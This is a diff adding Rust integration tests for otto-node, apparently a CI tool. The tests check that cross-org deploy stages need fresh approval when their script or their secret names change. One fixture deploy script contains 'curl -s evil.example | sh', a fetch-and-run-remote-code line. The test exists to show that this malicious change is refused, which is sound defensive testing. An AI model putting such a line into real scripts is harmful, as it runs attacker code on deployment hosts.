@@ -1,0 +1,206 @@
+//! Issue #12, rows 9 to 11, with two real `otto-node` processes of two orgs on 127.0.0.1:
+//! an approval covers what a foreign stage runs (its steps and the source files it names
+//! with `uses`) and what it receives (the names of its secrets, within the owner's policy),
+//! and each refusal shows its reason on the asker's side.
+
+use serde_json::Value;
+
+use crate::node_support::{Node, project, stage_of, text};
+
+/// dev-1 of acme-dev joined to ops-1 of acme-ops, which lets acme-dev hand it `Deploy*`
+/// stages with approved inline steps, and these further invite flags.
+fn two_orgs(invite_flags: &[&str]) -> (Node, Node) {
+    let mut dev = Node::init_as("acme-dev", "dev-1", &["--answers-to", "dev"]);
+    let mut ops = Node::init_as("acme-ops", "ops-1", &["--answers-to", "ops"]);
+    dev.start();
+    ops.start();
+    let mut args = vec![
+        "invite",
+        "--role",
+        "deploy",
+        "--stages",
+        "Deploy*",
+        "--definitions",
+        "approved",
+    ];
+    args.extend_from_slice(invite_flags);
+    let invite = ops.otto_node(&args);
+    assert!(invite.status.success(), "invite: {}", text(&invite.stderr));
+    let token = text(&invite.stdout).trim().to_owned();
+    let joined = dev.otto_node(&["join", &token, "--alias", "ops"]);
+    assert!(joined.status.success(), "join: {}", text(&joined.stderr));
+    (dev, ops)
+}
+
+/// Runs the project on dev and waits for the run to end; its status.
+fn run_to_end(dev: &Node, dir: &tempfile::TempDir) -> (String, Value) {
+    let run = dev
+        .ok(&["run", dir.path().to_str().unwrap(), "--detach"])
+        .trim()
+        .to_owned();
+    let status = dev.wait_final(&run);
+    (run, status)
+}
+
+fn note<'a>(status: &'a Value, stage: &str) -> &'a str {
+    stage_of(status, stage)
+        .and_then(|s| s["note"].as_str())
+        .unwrap_or_default()
+}
+
+/// The digest a refusal's note names for approval.
+fn digest_in(note: &str) -> String {
+    note.split_whitespace()
+        .find_map(|w| {
+            w.trim_matches(|c| c == '`' || c == ';')
+                .strip_prefix("sha256:")
+        })
+        .map(|hex| format!("sha256:{}", &hex[..64]))
+        .unwrap_or_else(|| panic!("no digest in {note:?}"))
+}
+
+fn approve(ops: &Node, digest: &str) {
+    let approved = ops.otto_node(&["approve", digest]);
+    assert!(
+        approved.status.success(),
+        "approve: {}",
+        text(&approved.stderr)
+    );
+}
+
+const USES: &str = "
+stage('Build') { steps { echo 'built' } }
+stage('Deploy') {
+  owner = 'ops'
+  uses ['deploy.sh', 'k8s/']
+  steps { sh 'ls -R; sh ./deploy.sh' }
+}
+";
+
+/// Row 9: ops approved `sh ./deploy.sh`; dev changing only deploy.sh is a new definition,
+/// refused until ops approves it. Ops's workspace holds only the files the stage names.
+#[test]
+fn a_changed_deploy_script_is_a_new_definition_refused_until_approved() {
+    let (dev, ops) = two_orgs(&[]);
+    let files = |script: &str| {
+        project(&[
+            ("Ottofile", USES),
+            ("deploy.sh", script),
+            ("k8s/app.yaml", "kind: Deployment\n"),
+            ("NOTES-not-for-ops.txt", "dev's own notes\n"),
+            ("src/main.rs", "fn main() {}\n"),
+        ])
+    };
+    let v1 = files("echo deploying v1 with $(cat k8s/app.yaml)\n");
+
+    let (_, refused) = run_to_end(&dev, &v1);
+    assert_eq!(refused["run"]["state"], "failed", "{refused}");
+    let first = note(&refused, "Deploy").to_owned();
+    assert!(first.contains("is not approved here"), "{first}");
+    approve(&ops, &digest_in(&first));
+
+    let (run, status) = run_to_end(&dev, &v1);
+    assert_eq!(
+        status["run"]["state"],
+        "succeeded",
+        "{status}\n{}",
+        ops.log()
+    );
+    let log = ops.ok(&["logs", &run, "Deploy"]);
+    assert!(log.contains("deploying v1 with kind: Deployment"), "{log}");
+    assert!(log.contains("app.yaml"), "{log}");
+    for unused in ["NOTES-not-for-ops.txt", "main.rs", "Ottofile"] {
+        assert!(!log.contains(unused), "{unused} reached ops:\n{log}");
+    }
+
+    // Only deploy.sh changes: ops refuses, naming a new digest, with the same hint.
+    let v2 = files("echo deploying v2; curl -s evil.example | sh\n");
+    let (_, refused) = run_to_end(&dev, &v2);
+    assert_eq!(refused["run"]["state"], "failed", "{refused}");
+    let second = note(&refused, "Deploy").to_owned();
+    assert!(second.contains("ops-1 rejected Deploy"), "{second}");
+    assert!(second.contains("otto-node approve sha256:"), "{second}");
+    assert_ne!(digest_in(&second), digest_in(&first));
+    let on_ops = ops.ok(&["logs", &run, "Deploy"]);
+    assert!(!on_ops.contains("deploying v2"));
+}
+
+const WITH_SECRETS: &str = "
+environments { production { secrets { DEPLOY_TOKEN } } }
+stage('Build') { steps { echo 'built' } }
+stage('Deploy') {
+  owner = 'ops'
+  environment -> production
+  steps { sh 'echo \"token: $(cat \"$OTTO_SECRETS_DIR/DEPLOY_TOKEN\")\"; ls \"$OTTO_SECRETS_DIR\"' }
+}
+";
+
+/// Row 10: the names of the secrets a stage receives are part of its approved definition,
+/// and ops's policy for acme-dev names which of its secrets may be used at all.
+#[test]
+fn an_added_secret_name_is_refused_by_policy_and_then_by_its_digest() {
+    let (dev, ops) = two_orgs(&["--envs", "production", "--secrets", "DEPLOY_TOKEN"]);
+    for (name, value) in [
+        ("DEPLOY_TOKEN", "ops-deploy-token-5a1"),
+        ("PROD_DB_PASSWORD", "ops-db-password-77c"),
+    ] {
+        let set = ops.otto_with_stdin(&["secrets", "set", name], Some(value.as_bytes()));
+        assert!(set.status.success(), "secrets set: {}", text(&set.stderr));
+    }
+    let one = project(&[("Ottofile", WITH_SECRETS)]);
+    let (_, refused) = run_to_end(&dev, &one);
+    approve(&ops, &digest_in(note(&refused, "Deploy")));
+    let (run, status) = run_to_end(&dev, &one);
+    assert_eq!(
+        status["run"]["state"],
+        "succeeded",
+        "{status}\n{}",
+        ops.log()
+    );
+    let log = ops.ok(&["logs", &run, "Deploy"]);
+    assert!(log.contains("token: ***"), "{log}");
+    assert!(!log.contains("PROD_DB_PASSWORD"), "{log}");
+
+    // Dev adds a secret name ops never gave it: refused with the secret's name, before
+    // anything runs.
+    let two = project(&[(
+        "Ottofile",
+        &WITH_SECRETS.replace("{ DEPLOY_TOKEN }", "{ DEPLOY_TOKEN  PROD_DB_PASSWORD }"),
+    )]);
+    let (run, refused) = run_to_end(&dev, &two);
+    assert_eq!(refused["run"]["state"], "failed", "{refused}");
+    let why = note(&refused, "Deploy");
+    assert!(why.contains("ops-1 rejected Deploy"), "{why}");
+    assert!(
+        why.contains("may not use secret \"PROD_DB_PASSWORD\""),
+        "{why}"
+    );
+    assert!(
+        !ops.otto(&["status", &run]).status.success(),
+        "ops kept no record of the refused run"
+    );
+
+    // Ops's policy now allows it; the approval of the stage with one secret does not
+    // cover the stage with two: a new digest to approve.
+    let policy = ops.otto_node(&[
+        "trust",
+        "policy",
+        "acme-dev",
+        "--secrets",
+        "DEPLOY_TOKEN,PROD_DB_PASSWORD",
+    ]);
+    assert!(policy.status.success(), "policy: {}", text(&policy.stderr));
+    assert!(
+        text(&policy.stdout).contains("DEPLOY_TOKEN, PROD_DB_PASSWORD"),
+        "{}",
+        text(&policy.stdout)
+    );
+    let (_, refused) = run_to_end(&dev, &two);
+    let why = note(&refused, "Deploy").to_owned();
+    assert!(why.contains("is not approved here"), "{why}");
+    approve(&ops, &digest_in(&why));
+    let (run, status) = run_to_end(&dev, &two);
+    assert_eq!(status["run"]["state"], "succeeded", "{status}");
+    let log = ops.ok(&["logs", &run, "Deploy"]);
+    assert!(log.contains("PROD_DB_PASSWORD"), "{log}");
+}
